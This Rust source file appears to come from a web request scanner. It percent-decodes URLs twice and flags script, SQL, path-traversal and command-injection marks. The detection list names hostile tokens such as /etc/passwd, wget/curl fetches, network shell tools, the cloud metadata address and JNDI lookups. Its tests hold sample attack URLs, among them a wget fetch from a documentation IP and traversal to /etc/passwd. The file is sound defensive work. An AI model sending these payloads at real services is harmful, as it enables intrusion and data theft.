//! Queries and paths shaped to break the program behind them: marks of SQL, scripts, file names and commands where data belongs.
//!
//! The target is percent-decoded twice and put in lower case before it is searched. A target without a query and without one of
//! a few bytes that every other mark needs is not looked at at all.

use super::words::Words;

/// Longest piece of a target that is looked at, in bytes, decoded.
const WINDOW: usize = 2048;

/// What a target is shaped for.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Injection {
    /// A script in a page.
    Script,
    /// SQL, or a query of another language.
    Query,
    /// A file outside of what is served, or a URL that the server should fetch.
    File,
    /// A command or code.
    Command,
}

impl Injection {
    /// Its name in samples.
    pub(crate) fn as_str(self) -> &'static str {
        match self {
            Self::Script => "script injection",
            Self::Query => "query injection",
            Self::File => "file traversal",
            Self::Command => "command injection",
        }
    }
}

const MARKS: &[(&[u8], Injection)] = &[
    (b"<script", Injection::Script),
    (b"</script", Injection::Script),
    (b"javascript:", Injection::Script),
    (b"onerror=", Injection::Script),
    (b"onload=", Injection::Script),
    (b"onmouseover=", Injection::Script),
    (b"<svg", Injection::Script),
    (b"<iframe", Injection::Script),
    (b"<img", Injection::Script),
    (b"alert(", Injection::Script),
    (b"document.cookie", Injection::Script),
    (b"<body", Injection::Script),
    (b"union select", Injection::Query),
    (b"union all select", Injection::Query),
    (b"information_schema", Injection::Query),
    (b"sleep(", Injection::Query),
    (b"benchmark(", Injection::Query),
    (b"waitfor delay", Injection::Query),
    (b"pg_sleep", Injection::Query),
    (b"extractvalue(", Injection::Query),
    (b"updatexml(", Injection::Query),
    (b"xp_cmdshell", Injection::Query),
    (b"concat(0x", Injection::Query),
    (b"' or ", Injection::Query),
    (b"\" or ", Injection::Query),
    (b"' and ", Injection::Query),
    (b"\" and ", Injection::Query),
    (b") and ", Injection::Query),
    (b") or ", Injection::Query),
    (b"'||", Injection::Query),
    (b"' --", Injection::Query),
    (b"'--", Injection::Query),
    (b"'#", Injection::Query),
    (b"order by 1", Injection::Query),
    (b"and 1=", Injection::Query),
    (b"or 1=1", Injection::Query),
    (b"case when", Injection::Query),
    (b"chr(", Injection::Query),
    (b"char(", Injection::Query),
    (b"from dual", Injection::Query),
    (b"rlike", Injection::Query),
    (b"procedure analyse", Injection::Query),
    (b"utl_inaddr", Injection::Query),
    (b"dbms_", Injection::Query),
    (b"[$ne]", Injection::Query),
    (b"[$gt]", Injection::Query),
    (b"$where", Injection::Query),
    (b"select * from", Injection::Query),
    (b"drop table", Injection::Query),
    (b"/**/", Injection::Query),
    (b"(select ", Injection::Query),
    (b"select(", Injection::Query),
    (b"elt(", Injection::Query),
    (b"make_set(", Injection::Query),
    (b"../..", Injection::File),
    (b"..\\..", Injection::File),
    (b"/../", Injection::File),
    (b"=../", Injection::File),
    (b"/etc/passwd", Injection::File),
    (b"/etc/shadow", Injection::File),
    (b"/proc/self", Injection::File),
    (b"boot.ini", Injection::File),
    (b"win.ini", Injection::File),
    (b"file://", Injection::File),
    (b"php://", Injection::File),
    (b"gopher://", Injection::File),
    (b"169.254.169.254", Injection::File),
    (b"..%2f", Injection::File),
    (b"\0", Injection::File),
    (b"${jndi:", Injection::Command),
    (b"${${", Injection::Command),
    (b"{{7*7", Injection::Command),
    (b"${7*7", Injection::Command),
    (b"/bin/sh", Injection::Command),
    (b"/bin/bash", Injection::Command),
    (b"cmd.exe", Injection::Command),
    (b"wget http", Injection::Command),
    (b"curl http", Injection::Command),
    (b";wget", Injection::Command),
    (b"|wget", Injection::Command),
    (b";cat ", Injection::Command),
    (b"|cat ", Injection::Command),
    (b"; cat ", Injection::Command),
    (b"| cat ", Injection::Command),
    (b";id;", Injection::Command),
    (b"|id", Injection::Command),
    (b"$(", Injection::Command),
    (b"`", Injection::Command),
    (b"chmod ", Injection::Command),
    (b"base64_decode", Injection::Command),
    (b"eval(", Injection::Command),
    (b"system(", Injection::Command),
    (b"exec(", Injection::Command),
    (b"passthru", Injection::Command),
    (b"phpinfo(", Injection::Command),
    (b"allow_url_include", Injection::Command),
    (b"auto_prepend_file", Injection::Command),
    (b"xdebug_session_start", Injection::Command),
    (b"call_user_func", Injection::Command),
    (b"invokefunction", Injection::Command),
    (b"runtime.getruntime", Injection::Command),
    (b"%{(#", Injection::Command),
    (b"class.module.classloader", Injection::Command),
    (b"cd /tmp", Injection::Command),
    (b"cd+/tmp", Injection::Command),
    (b"<?php", Injection::Command),
    (b"nslookup ", Injection::Command),
    (b"() {", Injection::Command),
    (b"md5(", Injection::Command),
];

/// The marks, ready for look-up.
#[derive(Debug)]
pub(crate) struct QueryWords(Words<Injection>);

impl QueryWords {
    pub(crate) fn new() -> Self {
        Self(Words::new(MARKS.iter().copied()))
    }

    /// The worst that a target is shaped for.
    pub(crate) fn look(&self, target: &str) -> Option<Injection> {
        let bytes = target.as_bytes();
        if !may_hold_a_mark(bytes) {
            return None;
        }
        let mut buffer = [0_u8; WINDOW];
        let length = decode(bytes, &mut buffer);
        let text = buffer.get(..length)?;
        let mut again = [0_u8; WINDOW];
        let length = decode(text, &mut again);
        let twice = again.get(..length)?;
        self.search(text).max(if twice == text {
            None
        } else {
            self.search(twice)
        })
    }

    fn search(&self, text: &[u8]) -> Option<Injection> {
        let command = runs_a_command(text).then_some(Injection::Command);
        command.max(self.0.greatest(text))
    }
}

/// Whether a separator of shells is followed by a common command, as in `;id` or `| env`; not where it names a parameter.
fn runs_a_command(text: &[u8]) -> bool {
    const COMMANDS: [&[u8]; 22] = [
        b"env",
        b"set",
        b"id",
        b"ls",
        b"cat",
        b"wget",
        b"curl",
        b"ping",
        b"sleep",
        b"whoami",
        b"uname",
        b"dir",
        b"type",
        b"nslookup",
        b"echo",
        b"sh",
        b"bash",
        b"nc",
        b"python",
        b"perl",
        b"powershell",
        b"netstat",
    ];
    let separators = text.iter().enumerate();
    let mut starts = separators.filter(|(_, byte)| matches!(byte, b';' | b'|' | b'`' | b'\n'));
    starts.any(|(place, _)| {
        let rest = text.get(place + 1..).unwrap_or_default().trim_ascii_start();
        let word = rest
            .split(|byte| !byte.is_ascii_alphanumeric())
            .next()
            .unwrap_or_default();
        let follows = rest.get(word.len());
        COMMANDS.contains(&word) && follows != Some(&b'=')
    })
}

fn may_hold_a_mark(target: &[u8]) -> bool {
    target.iter().any(|byte| is_telling(*byte)) || target.windows(2).any(|pair| pair == b"..")
}

/// A byte without which no mark is written, however escaped: what is not in an ordinary path.
fn is_telling(byte: u8) -> bool {
    matches!(
        byte,
        b'?' | b'%'
            | b'+'
            | b'\''
            | b'"'
            | b'<'
            | b'>'
            | b'('
            | b')'
            | b'{'
            | b'`'
            | b'|'
            | b';'
            | b'$'
            | b'\\'
            | b':'
            | b'*'
    )
}

/// Percent-decoded, `+` as a blank, in lower case; as much as fits.
fn decode(from: &[u8], to: &mut [u8]) -> usize {
    let mut rest = from;
    let mut length = 0;
    for place in to.iter_mut() {
        let (byte, left) = match rest {
            [] => break,
            [b'%', high, low, left @ ..] => match (hex(*high), hex(*low)) {
                (Some(high), Some(low)) => (high << 4 | low, left),
                (None, _) | (_, None) => (b'%', rest.get(1..).unwrap_or_default()),
            },
            [b'+', left @ ..] => (b' ', left),
            [byte, left @ ..] => (*byte, left),
        };
        *place = byte.to_ascii_lowercase();
        rest = left;
        length += 1;
    }
    length
}

fn hex(digit: u8) -> Option<u8> {
    let value = char::from(digit).to_digit(16)?;
    u8::try_from(value).ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shapes_are_found_however_they_are_escaped() {
        let words = QueryWords::new();
        let cases = [
            ("/items?id=1%27%20OR%20%271%27=%271", Injection::Query),
            ("/items?id=1+UNION+ALL+SELECT+NULL,NULL--", Injection::Query),
            ("/q?x=%3Cscript%3Ealert(1)%3C/script%3E", Injection::Script),
            ("/q?x=%253Cscript%253E", Injection::Script),
            ("/download?file=../../../../etc/passwd", Injection::File),
            ("/%2e%2e/%2e%2e/etc/passwd", Injection::File),
            ("/x?a=${jndi:ldap://203.0.113.1/a}", Injection::Command),
            ("/x?a=1;wget%20http://203.0.113.1/x", Injection::Command),
            ("/search?q=%7Cenv", Injection::Command),
            ("/search?q=a%29%3Benv%3B", Injection::Command),
            ("/search?q=x%0Aid", Injection::Command),
        ];
        for (target, sort) in cases {
            assert_eq!(words.look(target), Some(sort), "{target}");
        }
    }

    #[test]
    fn what_people_search_for_is_not_an_injection() {
        let words = QueryWords::new();
        for target in [
            "/search?q=o%27reilly+books",
            "/search?q=rock+%26+roll",
            "/search?q=black+and+white+or+blue",
            "/items?filter=price:10..20&sort=-name",
            "/oauth/callback?code=4/P7q7W91&state=a%3Db&redirect_uri=https%3A%2F%2Fapp.example.com%2Fx",
            "/items?fields=(id,name)&where={%22a%22:1}",
            "/presentations/a-b_c/images/x.png",
            "/list?a=1;id=7;type=2",
            "/search?q=ls|grep&sort=set",
        ] {
            assert_eq!(words.look(target), None, "{target}");
        }
    }
}
